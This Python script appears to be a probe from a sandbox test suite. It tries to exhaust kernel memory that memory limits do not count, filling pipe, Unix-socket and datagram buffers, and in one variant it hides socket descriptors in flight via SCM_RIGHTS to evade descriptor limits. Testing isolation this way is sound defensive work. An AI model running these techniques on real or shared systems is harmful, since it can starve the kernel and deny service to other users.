"""Fills buffers of the kernel that no limit on a program's memory counts: pipes, sockets, message queues.

Limits: memory_mb=64, wall_s=3
Variants: pipes, sockets, in_flight, dgram
"""

import array
import fcntl
import socket

from attack import BURST, VARIANT, breach, os, say

taken, kept = 0, []
block = bytes(BURST)


def fill(send):
    filled = 0
    try:
        while filled < 64 * BURST:
            filled += send(block[:65536])
    except OSError:
        pass
    return filled


def pair(kind):
    one, other = socket.socketpair(socket.AF_UNIX, kind)
    one.setblocking(False)
    for option in (socket.SO_SNDBUF, 32):
        try:
            one.setsockopt(socket.SOL_SOCKET, option, 256 * BURST)
        except OSError:
            continue
    return one, other


try:
    while taken < 256 * BURST:
        if VARIANT == "pipes":
            reader, writer = os.pipe()
            os.set_blocking(writer, False)
            for size in (BURST, BURST // 2):
                try:
                    fcntl.fcntl(writer, 1031, size)
                    break
                except OSError:
                    continue
            kept.append(reader)
            taken += fill(lambda data, writer=writer: os.write(writer, data))
        else:
            one, other = pair(socket.SOCK_DGRAM if VARIANT == "dgram" else socket.SOCK_STREAM)
            taken += fill(one.send)
            kept.append((one, other))
            if VARIANT == "in_flight" and len(kept) > 8:
                # Sockets that lie in another's queue are open, and count as no descriptor of ours.
                carrier = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
                numbers = [s.fileno() for both in kept for s in both]
                carrier[0].sendmsg([b"x"], [(socket.SOL_SOCKET, 1, array.array("i", numbers))])
                kept = [carrier]
except OSError as refusal:
    say(f"refused after {taken >> 20} MiB: {refusal}")
if taken > 128 * BURST:
    breach(f"{taken >> 20} MiB in the kernel's buffers")
